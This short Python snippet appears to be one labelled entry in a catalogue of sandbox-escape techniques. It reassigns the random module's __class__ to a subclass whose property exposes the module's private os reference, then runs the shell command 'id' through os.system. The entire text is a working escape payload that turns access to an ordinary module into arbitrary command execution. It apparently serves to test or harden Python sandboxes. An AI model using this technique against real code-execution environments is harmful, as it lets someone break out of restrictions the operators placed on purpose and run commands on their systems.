# family: C (assigning a module's __class__)   goal: id
import random
class M(type(random)):
    @property
    def leak(self):
        return self._os
random.__class__ = M
random.leak.system("id")
